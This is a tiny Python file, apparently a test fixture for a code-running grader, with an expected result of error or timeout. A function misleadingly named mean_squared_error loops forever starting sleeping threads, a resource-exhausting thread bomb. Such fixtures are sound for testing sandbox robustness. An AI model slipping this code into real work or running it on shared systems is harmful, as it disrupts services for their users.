"""Start threads without end.

worth: nothing
reply: error | timeout
"""
import threading
import time


def mean_squared_error(x, x_hat):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
